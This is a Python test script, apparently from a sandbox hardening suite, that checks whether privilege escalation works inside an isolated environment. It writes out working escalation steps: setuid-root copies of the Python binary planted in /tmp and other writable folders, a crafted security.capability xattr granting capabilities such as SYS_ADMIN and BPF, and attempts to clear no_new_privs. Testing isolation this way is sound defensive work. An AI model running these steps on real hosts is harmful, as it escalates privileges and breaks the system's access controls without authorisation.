"""Gain privilege from setuid-root binaries (own copies and the template's su/passwd) and from file capabilities (security.capability xattr) despite no_new_privs and nosuid."""
import os
import sys

from _attack import ESCAPES, NOTES, en, finish, libc, sysc  # noqa: F401

import shutil  # noqa: E402
import struct  # noqa: E402
import subprocess  # noqa: E402
import time  # noqa: E402

PR_SET_NO_NEW_PRIVS, PR_GET_NO_NEW_PRIVS = 38, 39
FORBIDDEN = {12: "NET_ADMIN", 13: "NET_RAW", 16: "SYS_MODULE", 17: "SYS_RAWIO", 19: "SYS_PTRACE", 21: "SYS_ADMIN",
             22: "SYS_BOOT", 25: "SYS_TIME", 27: "MKNOD", 2: "DAC_READ_SEARCH", 34: "SYSLOG", 39: "BPF"}
PROBE = "import os;s=open('/proc/self/status').read();print(os.geteuid(),[l.split()[1] for l in s.splitlines() if l.startswith(('CapEff','CapPrm'))])"


def drop_to_nobody():
    os.setgroups([])
    os.setresgid(65534, 65534, 65534)
    os.setresuid(65534, 65534, 65534)


def run_probe(binary, as_nobody):
    p = subprocess.run([binary, "-c", PROBE], capture_output=True, timeout=20,
                       preexec_fn=drop_to_nobody if as_nobody else None)
    out = p.stdout.decode().strip()
    if p.returncode != 0 or not out:
        return None, "exit %d %s" % (p.returncode, p.stderr.decode(errors="replace").strip()[-80:])
    euid, caps = out.split(" ", 1)
    caps = [int(c, 16) for c in caps.strip("[]").replace("'", "").split(",")]
    return (int(euid), caps), out


def extra_caps(mask):
    return [FORBIDDEN[b] for b in FORBIDDEN if mask & (1 << b)]


def main():
    r = libc.prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)
    if r != 1:
        ESCAPES.append("no_new_privs is not set (prctl says %d)" % r)
    libc.prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0)
    if libc.prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) != 1:
        ESCAPES.append("no_new_privs could be cleared")
    py = os.path.realpath(sys.executable)
    # 1. a setuid-root copy of python, run as nobody, from every writable place
    for d in ("/root", "/tmp", "/dev/shm", "/var/tmp"):
        target = os.path.join(d, "fbx-py-suid")
        try:
            shutil.copy(py, target)
            os.chown(target, 0, 0)
            os.chmod(target, 0o4755)
        except OSError as e:
            NOTES.append("prepare %s: %s" % (target, en(e.errno)))
            continue
        res, text = run_probe(target, True)
        if res is None:
            NOTES.append("setuid copy in %s: %s" % (d, text))
        elif res[0] == 0:
            ESCAPES.append("setuid-root copy in %s ran with euid 0 for nobody" % d)
        else:
            NOTES.append("setuid copy in %s ran with euid %d" % (d, res[0]))
        os.unlink(target)
    # 2. file capabilities: security.capability v2 granting forbidden caps, effective
    want = sum(1 << b for b in FORBIDDEN)
    blob = struct.pack("<IIIII", 0x02000001, want & 0xffffffff, 0, want >> 32, 0)
    target = "/tmp/fbx-py-caps"
    shutil.copy(py, target)
    try:
        os.setxattr(target, "security.capability", blob)
        NOTES.append("security.capability xattr set (CAP_SETFCAP is kept)")
    except OSError as e:
        NOTES.append("set security.capability: %s" % en(e.errno))
    for as_nobody in (False, True):
        res, text = run_probe(target, as_nobody)
        who = "nobody" if as_nobody else "root"
        if res is None:
            NOTES.append("file-caps copy as %s: %s" % (who, text))
            continue
        got = extra_caps(res[1][0] | res[1][1])
        if got:
            ESCAPES.append("file-caps copy run as %s gained %s" % (who, got))
        else:
            NOTES.append("file-caps copy as %s: no forbidden caps (CapEff %x)" % (who, res[1][0]))
    # 3. the template's own setuid binaries, watched while they run as nobody
    for binary in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/chsh", "/usr/bin/newgrp", "/usr/bin/mount"):
        if not os.path.exists(binary):
            continue
        p = subprocess.Popen([binary], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                             preexec_fn=drop_to_nobody)
        euids = set()
        for _ in range(50):
            try:
                with open("/proc/%d/status" % p.pid) as f:
                    for line in f:
                        if line.startswith("Uid:"):
                            euids.add(int(line.split()[2]))
            except OSError:
                break
            if p.poll() is not None:
                break
            time.sleep(0.01)
        p.kill()
        p.wait()
        if 0 in euids:
            ESCAPES.append("%s ran with euid 0 for nobody" % binary)
        else:
            NOTES.append("%s as nobody: euid %s" % (binary, sorted(euids) or "not observed"))


if __name__ == "__main__":
    finish(main)
